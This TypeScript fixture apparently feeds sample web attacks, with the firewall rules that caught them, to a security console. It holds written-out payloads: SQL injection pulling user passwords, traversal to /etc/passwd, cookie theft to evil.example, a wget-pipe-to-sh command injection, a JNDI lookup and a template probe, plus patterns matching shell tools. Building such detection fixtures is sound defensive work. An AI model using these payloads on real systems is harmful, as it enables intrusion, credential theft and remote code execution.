/** Attacks as they come from the Internet, for a console to show. Rules and their words are ours. */
import type { AttackType } from '#model/attack-type-names.ts'

type RuleSample = {
  readonly id: number
  readonly message: string
  readonly operator: string
  readonly score: number
  readonly severity: string
  readonly file: string
  readonly line: number
  readonly tags: readonly string[]
}

export type AttackSample = {
  readonly type: AttackType
  readonly site: string
  readonly host: string
  readonly path: string
  readonly method: string
  /** `ARGS:name`, `REQUEST_HEADERS:name` or `` for the path. */
  readonly parameter: string
  /** As sent. */
  readonly raw: string
  readonly steps: readonly (readonly [transformation: string, value: string])[]
  /** The part of the last value that the rule hit. */
  readonly hit: string
  readonly is_in_body?: boolean
  readonly rules: readonly RuleSample[]
}

const rule = (
  id: number,
  message: string,
  operator: string,
  file: string,
  line: number,
  tag: string,
  level = 1,
  severity = 'CRITICAL',
  score = 5,
): RuleSample => ({
  id,
  message,
  operator,
  score,
  severity,
  file: `rules/${file}`,
  line,
  tags: [`attack-${tag}`, 'language-multi', 'platform-multi', `paranoia-level/${level}`],
})

/** Long, as the expressions of real rules are. */
const eventNames = ['error', 'load', 'focus', 'blur', 'click', 'input', 'key', 'touch', 'wheel']
  .flatMap((name) => ['on', 'onbefore', 'onafter', 'ondata'].map((start) => start + name))
  .join('|')
  .repeat(3)

const sqlFile = 'REQUEST-942-APPLICATION-ATTACK-SQLI.conf'
const xssFile = 'REQUEST-941-APPLICATION-ATTACK-XSS.conf'
const lfiFile = 'REQUEST-930-APPLICATION-ATTACK-LFI.conf'
const rceFile = 'REQUEST-932-APPLICATION-ATTACK-RCE.conf'

export const attackSamples: readonly AttackSample[] = [
  {
    type: 'sqli',
    site: 'shop',
    host: 'shop.example',
    path: '/search',
    method: 'GET',
    parameter: 'ARGS:q',
    raw: '1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-',
    steps: [['urlDecodeUni', "1' UNION SELECT username,password FROM users-- -"]],
    hit: "1' UNION SELECT username,password FROM users",
    rules: [
      rule(942100, 'The value reads as SQL', '@detectSQLi', sqlFile, 66, 'sqli'),
      rule(
        942190,
        'A query is joined to another one',
        '@rx (?i)union[\\s\\v]+select',
        sqlFile,
        311,
        'sqli',
      ),
      rule(
        942440,
        'A comment cuts off the rest of the query',
        '@rx --[\\s\\v]*-?$',
        sqlFile,
        742,
        'sqli',
        2,
        'ERROR',
        4,
      ),
    ],
  },
  {
    type: 'ptrav',
    site: 'shop',
    host: 'shop.example',
    path: '/download',
    method: 'GET',
    parameter: 'ARGS:file',
    raw: '..%252f..%252f..%252fetc%252fpasswd',
    steps: [
      ['urlDecodeUni', '..%2f..%2f..%2fetc%2fpasswd'],
      ['urlDecodeUni', '../../../etc/passwd'],
      ['normalizePathWin', 'etc/passwd'],
    ],
    hit: 'etc/passwd',
    rules: [
      rule(
        930120,
        'A file of the system is asked for',
        '@pmFromFile lfi-os-files.data',
        lfiFile,
        78,
        'lfi',
      ),
      rule(
        930100,
        'The path climbs out of its directory',
        '@rx (?:\\.\\.[/\\\\])',
        lfiFile,
        27,
        'lfi',
      ),
    ],
  },
  {
    type: 'xss',
    site: 'blog',
    host: 'blog.example',
    path: '/comment',
    method: 'POST',
    parameter: 'ARGS:text',
    is_in_body: true,
    raw: 'Nice+post%21%3Cimg+src%3Dx+onerror%3D%22fetch%28%27%2F%2Fevil.example%2F%3F%27%2Bdocument.cookie%29%22%3E',
    steps: [
      ['urlDecodeUni', `Nice post!<img src=x onerror="fetch('//evil.example/?'+document.cookie)">`],
      ['jsDecode', `Nice post!<img src=x onerror="fetch('//evil.example/?'+document.cookie)">`],
    ],
    hit: '<img src=x onerror=',
    rules: [
      rule(941100, 'The value reads as a script', '@detectXSS', xssFile, 40, 'xss'),
      rule(
        941110,
        'An element runs script on an event',
        `@rx (?i)<[^>]+\\s(?:${eventNames})\\s*=`,
        xssFile,
        92,
        'xss',
      ),
    ],
  },
  {
    type: 'rce',
    site: 'shop',
    host: 'shop.example',
    path: '/api/ping',
    method: 'POST',
    parameter: 'ARGS:json.host',
    is_in_body: true,
    raw: '127.0.0.1; wget http://198.51.100.77/x.sh -O- | sh',
    steps: [['cmdLine', '127.0.0.1 wget http://198.51.100.77/x.sh -o- | sh']],
    hit: 'wget http://198.51.100.77/x.sh',
    rules: [
      rule(
        932235,
        'A shell command follows the value',
        '@rx (?i);\\s*(?:wget|curl)\\b',
        rceFile,
        214,
        'rce',
      ),
      rule(
        932160,
        'The value holds the name of a shell',
        '@pmFromFile unix-shell.data',
        rceFile,
        402,
        'rce',
      ),
    ],
  },
  {
    type: 'scanner',
    site: 'shop',
    host: 'shop.example',
    path: '/.git/config',
    method: 'GET',
    parameter: 'REQUEST_HEADERS:User-Agent',
    raw: 'Mozilla/5.0 (compatible; Nuclei - Open-source project)',
    steps: [['lowercase', 'mozilla/5.0 (compatible; nuclei - open-source project)']],
    hit: 'nuclei',
    rules: [
      rule(
        913100,
        'The client names itself as a scanner',
        '@pmFromFile scanners-user-agents.data',
        'REQUEST-913-SCANNER-DETECTION.conf',
        31,
        'reputation-scanner',
      ),
    ],
  },
  {
    type: 'java',
    site: 'blog',
    host: 'blog.example',
    path: '/',
    method: 'GET',
    parameter: 'REQUEST_HEADERS:X-Api-Version',
    raw: '\x24{jndi:\x24{lower:l}dap://198.51.100.23:1389/a}',
    steps: [['lowercase', '\x24{jndi:\x24{lower:l}dap://198.51.100.23:1389/a}']],
    hit: '\x24{jndi:',
    rules: [
      rule(
        944150,
        'The value makes Java look up a name elsewhere',
        '@rx (?i)\\x24\\{jndi:',
        'REQUEST-944-APPLICATION-ATTACK-JAVA.conf',
        118,
        'injection-java',
      ),
    ],
  },
  {
    type: 'protocol',
    site: 'intranet',
    host: 'intranet.example',
    path: '/report',
    method: 'GET',
    parameter: 'REQUEST_HEADERS:Host',
    raw: '192.0.2.10',
    steps: [],
    hit: '192.0.2.10',
    rules: [
      rule(
        920350,
        'The host is a number, not a name',
        '@rx ^[\\d.:]+$',
        'REQUEST-920-PROTOCOL-ENFORCEMENT.conf',
        803,
        'protocol',
        1,
        'WARNING',
        3,
      ),
    ],
  },
  {
    type: 'ssti',
    site: 'blog',
    host: 'blog.example',
    path: '/profile',
    method: 'GET',
    parameter: 'ARGS:name',
    raw: '%7B%7B7*7%7D%7D%7B%7Bconfig.items()%7D%7D',
    steps: [['urlDecodeUni', '{{7*7}}{{config.items()}}']],
    hit: '{{config.items()}}',
    rules: [
      rule(
        934180,
        'The value is a template that would be run',
        '@rx \\{\\{.*\\}\\}',
        'REQUEST-934-APPLICATION-ATTACK-GENERIC.conf',
        190,
        'ssti',
        2,
      ),
    ],
  },
]

export const clients = [
  '203.0.113.9',
  '198.51.100.23',
  '203.0.113.77',
  '192.0.2.146',
  '2001:db8:4f::1a2b',
  '198.51.100.201',
] as const
